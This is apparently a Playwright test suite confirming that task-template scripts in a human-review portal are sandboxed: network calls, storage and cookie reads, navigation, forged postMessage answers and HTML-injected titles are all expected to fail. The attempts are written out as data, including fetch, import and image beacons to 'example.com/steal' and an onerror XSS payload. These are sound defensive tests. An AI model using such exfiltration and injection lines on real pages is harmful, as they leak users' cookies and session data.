"""Scripts of a template are untrusted and isolated, in both hosts of the portal."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.core.a2i_portal.portal_hosts import HOSTS, LINK, PortalHost

DENIED = "chrome-error:"
"""Begin of the address that Chromium shows where a policy denies a page."""
LOADER = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
FORM = f"""{LOADER}<crowd-form><crowd-input name="answer" label="Answer"></crowd-input>
</crowd-form>"""


@pytest.fixture(scope="module", params=HOSTS)
def host(request: pytest.FixtureRequest) -> Iterator[PortalHost]:
    with HOSTS[request.param]() as found:
        yield found


def run(page: Page, host: PortalHost, script: str) -> None:
    result = '<output id="result">waiting</output>'
    host.open(page, f"{LOADER}{result}<script>{script}</script>")


def expect_result(page: Page, text: str) -> None:
    expect(page.frame_locator("iframe").locator("#result")).to_have_text(text)


def result_of(expression: str) -> str:
    """A script that tries `expression` and says how it ended."""
    return (
        "const say = (text) => { document.getElementById('result').textContent = text; };"
        f"(async () => {{ try {{ await ({expression}); say('done'); }}"
        " catch (error) { say('failed'); } })();"
    )


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://example.com/steal')",
        "fetch('API/tasks?worker=ann')",
        "fetch('API/tasks/t1/release', {method: 'POST', body: '{}'})",
        "parent.document.title",
        "localStorage.length",
        "sessionStorage.length",
        "document.cookie",
        "import('https://example.com/x.js')",
        "new Promise((go, fail) => { const i = new Image(); i.onload = go; i.onerror = fail;"
        " i.src = 'https://example.com/steal.png'; })",
        "Promise.resolve(open('https://example.com/steal')).then((w) => w.name)",
    ],
)
def test_a_task_reaches_neither_the_network_nor_the_page(
    page: Page, host: PortalHost, attempt: str
) -> None:
    run(page, host, result_of(attempt.replace("API/", host.api)))
    expect_result(page, "failed")


def test_a_task_may_read_the_objects_it_was_granted(page: Page, host: PortalHost) -> None:
    run(page, host, result_of(f"fetch('{LINK}').then((r) => r.ok || Promise.reject())"))
    expect_result(page, "done")


def test_a_task_cannot_navigate_itself_away(page: Page, host: PortalHost) -> None:
    with page.expect_event("framenavigated", lambda frame: frame.url.startswith(DENIED)):
        run(page, host, "location = 'https://example.com/?stolen'")
    expect(page.get_by_role("button", name="Release")).to_be_visible()
    assert all("example.com" not in frame.url for frame in page.frames)


def test_a_blocked_resource_is_named_to_the_reviewer(page: Page, host: PortalHost) -> None:
    script = '<script src="https://cdn.example/lib.js"></script>'
    host.open(page, f"{LOADER}<crowd-form></crowd-form>{script}")
    expect(page.locator("#notice")).to_contain_text("https://cdn.example/lib.js")


def test_a_link_to_a_granted_object_opens_beside_the_task(page: Page, host: PortalHost) -> None:
    host.open(page, f'{LOADER}<a href="{LINK}" target="_blank">Document</a>')
    expect(page.frame_locator("iframe").locator("html[lang]")).to_be_attached()
    with page.context.expect_page() as opened:
        page.frame_locator("iframe").get_by_role("link", name="Document").click()
    expect(opened.value.get_by_text("The document")).to_be_visible()


def test_a_link_that_leads_away_is_named_instead(page: Page, host: PortalHost) -> None:
    host.open(page, f'{LOADER}<a href="https://example.com/more">More</a>')
    expect(page.frame_locator("iframe").locator("html[lang]")).to_be_attached()
    page.frame_locator("iframe").get_by_role("link", name="More").click()
    expect(page.locator("#notice")).to_contain_text("https://example.com/more")
    expect(page.frame_locator("iframe").get_by_role("link", name="More")).to_be_visible()


def test_messages_of_other_windows_are_no_answers(page: Page, host: PortalHost) -> None:
    """One that was taken would be submitted before the task's own."""
    host.open(page, FORM)
    field = page.frame_locator("iframe").get_by_label("Answer")
    expect(field).to_be_visible()
    page.evaluate("postMessage({type: 'a2i:answer', answerContent: {forged: true}}, '*')")
    field.fill("mine")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("heading", name="Answer submitted")).to_be_visible()
    assert host.answers() == [{"answer": "mine"}]


def test_hostile_titles_show_as_text(page: Page, host: PortalHost) -> None:
    hostile = "<img src=x onerror=\"document.title='run'\">"
    host.open_list(page, hostile)
    expect(page.get_by_role("heading", name=hostile)).to_be_visible()
    assert page.title() == "Reviews"
